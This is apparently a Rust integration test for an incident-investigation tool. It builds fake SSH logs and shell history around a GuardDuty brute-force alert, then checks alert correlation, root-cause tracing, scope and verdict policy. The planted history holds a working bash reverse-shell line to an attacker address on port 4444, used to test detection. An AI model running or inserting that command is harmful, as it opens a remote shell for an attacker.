//! `riposte investigate --alert`: the events around a real GuardDuty alert that share its
//! observables are linked to it, the alarm's command is traced back to the SSH logon it
//! ran in (the root cause), and the scope lists who and what was involved.
//!
//! The alert is the corpus' `UnauthorizedAccess:EC2/SSHBruteForce` sample (panther-labs
//! test data): 151.80.19.228 from port 32938, first and last seen 2018-08-26T14:17:23Z.
//! The host's auth.log and history are written here around that time (syslog lines carry
//! no year: the file's modification time in 2018 gives it).

mod common;

use common::{corpus, investigate, riposte, riposte_ok, tool};
use std::path::{Path, PathBuf};

const ATTACKER: &str = "151.80.19.228";

fn host(dir: &Path) -> PathBuf {
    let root = dir.join("ip-10-0-0-5");
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    std::fs::create_dir_all(root.join("root")).unwrap();
    let auth = root.join("var/log/auth.log");
    std::fs::write(
        &auth,
        format!(
            "Aug 26 14:05:00 ip-10-0-0-5 sshd[1990]: Accepted publickey for deploy from 10.0.0.4 port 50022 ssh2\n\
             Aug 26 14:17:20 ip-10-0-0-5 sshd[2001]: Failed password for root from {ATTACKER} port 32938 ssh2\n\
             Aug 26 14:17:23 ip-10-0-0-5 sshd[2002]: Accepted password for root from {ATTACKER} port 32940 ssh2\n\
             Aug 26 14:17:23 ip-10-0-0-5 sshd[2002]: pam_unix(sshd:session): session opened for user root by (uid=0)\n"
        ),
    )
    .unwrap();
    // 1535293200 = 2018-08-26T14:20:00Z, inside the root session.
    std::fs::write(
        root.join("root/.bash_history"),
        format!("#1535293200\nbash -i >& /dev/tcp/{ATTACKER}/4444 0>&1\n"),
    )
    .unwrap();
    for file in [auth, root.join("root/.bash_history")] {
        tool(
            "touch",
            &["-d", "2018-08-26 15:00:00", file.to_str().unwrap()],
            "coreutils",
        );
    }
    root
}

fn alert_file() -> PathBuf {
    corpus().join("alerts/guardduty/panther-ec2-sshbruteforce.json")
}

const FAST: [&str; 2] = ["--no-bundled-sigma", "--no-bundled-yara"];

#[test]
fn investigate_links_the_alert_traces_the_root_cause_and_lists_the_scope() {
    let tmp = tempfile::tempdir().unwrap();
    let root = host(tmp.path());
    let alert = alert_file();
    let mut args = FAST.to_vec();
    args.extend(["--alert", alert.to_str().unwrap()]);
    let report = investigate(&root, &args);
    assert_eq!(
        report["alert"]["source"], "guardduty",
        "{:#}",
        report["alert"]
    );
    assert!(report["alert"].get("raw").is_none());

    // Correlation: the failed and the accepted login from the attacker, not deploy's.
    let story = &report["story"];
    let correlated = story["correlation"]["events"].as_array().unwrap();
    assert!(correlated.len() >= 2, "{:#}", story["correlation"]);
    for e in correlated {
        assert!(
            e["matched"]
                .as_array()
                .unwrap()
                .iter()
                .any(|m| m["value"] == ATTACKER),
            "{e:#}"
        );
    }

    // Root cause: the reverse shell ran in root's SSH session from the attacker.
    let chains = story["chains"].as_array().unwrap();
    let chain = chains
        .iter()
        .find(|c| {
            c["links"].as_array().unwrap().iter().any(|l| {
                l["command"]
                    .as_str()
                    .is_some_and(|c| c.contains("/dev/tcp/"))
            })
        })
        .unwrap_or_else(|| panic!("no chain ends at the reverse shell: {chains:#?}"));
    assert_eq!(chain["origin"]["kind"], "logon", "{chain:#}");
    assert_eq!(chain["origin"]["remote_ip"], ATTACKER, "{chain:#}");
    assert_eq!(chain["origin"]["user"], "root", "{chain:#}");

    // Scope: the attacker's address, external; root among the users.
    let ips = story["scope"]["ips"].as_array().unwrap();
    assert!(
        ips.iter()
            .any(|i| i["ip"] == ATTACKER && i["locality"] == "external"),
        "{ips:#?}"
    );
    assert!(
        story["scope"]["users"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["value"] == "root"),
        "{:#}",
        story["scope"]
    );

    // Without the alert there is nothing to correlate; the chain is the same.
    let without = investigate(&root, &FAST);
    assert!(without["story"].get("correlation").is_none());
    assert_eq!(without["story"]["chains"], story["chains"]);
}

#[test]
fn the_text_report_shows_the_correlation_the_root_cause_and_the_scope() {
    let tmp = tempfile::tempdir().unwrap();
    let root = host(tmp.path());
    let alert = alert_file();
    let mut args = vec!["investigate"];
    args.extend(FAST);
    args.extend(["--alert", alert.to_str().unwrap(), root.to_str().unwrap()]);
    let out = riposte_ok(&args);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("Correlated with the alert: "), "{text}");
    assert!(text.contains("Root cause ("), "{text}");
    assert!(text.contains(&format!("from {ATTACKER}")), "{text}");
    assert!(text.contains("Scope ("), "{text}");

    // A file that no alert parser accepts is refused, saying what to do.
    let junk = tmp.path().join("junk.json");
    std::fs::write(&junk, r#"{"hello": "world"}"#).unwrap();
    let mut args = vec!["investigate"];
    args.extend(FAST);
    args.extend(["--alert-source", "guardduty", "--alert"]);
    args.extend([junk.to_str().unwrap(), root.to_str().unwrap()]);
    let out = riposte(&args);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("junk.json") && err.contains("--alert-source"),
        "{err}"
    );
}

#[test]
fn the_verdict_policy_is_configurable_and_checked() {
    let tmp = tempfile::tempdir().unwrap();
    let root = host(tmp.path());
    let policy = tmp.path().join("policy.json");
    // One High alarm (the reverse shell) is 60: Malicious by default, Suspicious when
    // Malicious starts at 80.
    std::fs::write(&policy, r#"{"malicious_at": 80}"#).unwrap();
    let mut args = FAST.to_vec();
    args.extend(["--verdict-policy", policy.to_str().unwrap()]);
    let strict = investigate(&root, &args);
    assert_eq!(
        strict["verdict"]["verdict"], "Suspicious Activity",
        "{:#}",
        strict["verdict"]
    );
    assert_eq!(strict["verdict"]["score"], 60);
    let default = investigate(&root, &FAST);
    assert_eq!(
        default["verdict"]["verdict"],
        "Malicious Activity Identified"
    );

    for (text, key) in [
        (r#"{"suspicious_at": 0}"#, "suspicious_at"),
        (
            r#"{"malicious_at": 10, "suspicious_at": 20}"#,
            "malicious_at",
        ),
        (r#"{"malicous_at": 80}"#, "malicous_at"),
    ] {
        std::fs::write(&policy, text).unwrap();
        let out = riposte(args_with(&root, &policy));
        assert!(!out.status.success(), "{text} must be refused");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(key) && err.contains("policy.json"),
            "{text}: {err}"
        );
    }
}

fn args_with(root: &Path, policy: &Path) -> Vec<String> {
    let mut args: Vec<String> = vec!["investigate".into()];
    args.extend(FAST.iter().map(|s| s.to_string()));
    args.push("--verdict-policy".into());
    args.push(policy.display().to_string());
    args.push(root.display().to_string());
    args
}
